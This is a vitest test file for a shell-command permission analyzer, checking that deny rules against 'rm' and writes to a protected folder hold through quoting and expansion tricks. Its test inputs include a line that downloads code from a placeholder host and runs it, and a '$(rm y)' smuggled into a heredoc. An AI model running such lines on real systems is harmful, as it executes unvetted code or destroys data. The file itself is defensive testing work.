import { beforeAll, describe, expect, it } from "vitest";

import { analyzeCommand } from "../../src/shell/analyze.ts";
import { loadReference, referenceErrs, type ReferenceParser } from "../shell/reference.ts";
import { unseenCommands } from "./odd-doubts.ts";
import { hiddenCommands } from "./odd-lines.ts";
import { hiddenWrites, unseenWrites } from "./odd-writes.ts";
import { describeTwins } from "./twins.ts";

// hostile 21: quoting, expansion, redefinition, other shells. The lines are read and never run.

const bashAllowed = { fallback: { bash: "allow" } };
const noRm = { id: "no-rm", effect: "deny", command: { program: "rm" } };
const noWrite = { id: "prot", effect: "deny", path: { glob: "prot/**", action: "write" } };
const files = { "/w/prot/a": "x", "/w/a.txt": "x", "/w/sub/b.txt": "x" };
const usual = (
  "ls echo cat tee cp sed tar sort touch curl find awk cd mkdir env timeout xargs eval test [ printf read export " +
  "declare set trap exec command time nohup nice wait let git"
).split(" ");
const allowUsual = {
  id: "usual",
  effect: "allow",
  command: usual.map((prefix) => ({ prefix })),
};

describeTwins([
  {
    promise: "a deny sees the command through every twist",
    user: { ...bashAllowed, rules: [noRm] },
    files,
    deny: hiddenCommands,
    cautious: unseenCommands,
    allow: [
      "touch arm y",
      "echo rm y",
      "ls 'rm y'",
      "git log --grep='rm y'",
      "cat <<'E'\n$(rm y)\nE",
      "ls # rm y",
    ],
  },
  {
    promise: "an allow of other commands never lets it pass",
    user: { rules: [allowUsual] },
    files,
    cautious: [...hiddenCommands, ...unseenCommands],
  },
  {
    promise: "a guarded folder is not written through any twist",
    user: { ...bashAllowed, rules: [noWrite] },
    files,
    deny: hiddenWrites,
    cautious: unseenWrites,
    // Nothing of that name is there, so the shell keeps the pattern as the name of a new file.
    allow: ["touch pr*/x", "touch p?ot/x", "echo 'x > prot/a'", "ls # > prot/a", "cat prot/a > x"],
  },
  {
    promise: "neither where the writing programs are allowed",
    user: { rules: [allowUsual, noWrite] },
    files,
    cautious: [...hiddenWrites, ...unseenWrites],
  },
  {
    promise: "a file that the same line writes before it runs is code that nobody has seen",
    user: bashAllowed,
    files,
    ask: [
      "cat > x.sh <<'E'\nls\nE\nbash x.sh",
      "tee x.sh <<'E'\nls\nE\nsh x.sh",
      "echo ls > sub/x && . sub/x",
      "echo ls > x; chmod +x x; ./x",
      "curl -o x http://x.test && bash x",
      "cd sub && echo ls > x && sh ./x",
      "cp a.txt x && node x",
    ],
    allow: [
      "bash x.sh",
      "gcc -o x a.c && ./x",
      "chmod +x x && ./x",
      "echo a > x && cat x",
      "npm run build > log; node x.js",
    ],
  },
]);

describe("the twisted lines by the reference parser", () => {
  let reference: ReferenceParser;
  beforeAll(async () => {
    reference = await loadReference();
  });
  it.each([...hiddenCommands, ...unseenCommands, ...hiddenWrites, ...unseenWrites].map((line) => [line]))(
    "%j has no command that is neither known nor in doubt",
    (line) => {
      const { names, clean } = reference.commandNames(line);
      const facts = analyzeCommand(line, { cwd: "/w" });
      const known = facts.commands.map(({ argv }) => argv[0].value);
      // It ends a here-document at a delimiter that has a blank behind it; bash does not.
      const errs = referenceErrs.test(line) || /<<E\nE \n/.test(line);
      const missed = clean && !errs && facts.doubts.length === 0;
      expect(missed ? names.filter((name) => !known.includes(name)) : []).toEqual([]);
    },
  );
});
